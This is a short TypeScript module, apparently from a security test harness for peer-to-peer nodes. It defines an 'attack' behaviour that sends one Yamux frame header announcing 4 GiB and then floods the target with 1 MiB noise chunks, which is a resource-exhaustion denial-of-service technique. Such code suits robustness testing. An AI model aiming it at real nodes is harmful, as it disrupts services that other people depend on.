/** One Yamux frame that announces 4 GiB, and the bytes of it, as many as the node takes. */
import type { Behaviour } from '../attack/target.js'
import { flooding, FRAME, header, noise1MiB } from '../attack/wire.js'

export const attack: Behaviour = async (target, signal) => flooding(target, signal, (n) => n === 0 ? header(FRAME.data, 0, 1, 0xffff_ffff) : noise1MiB)
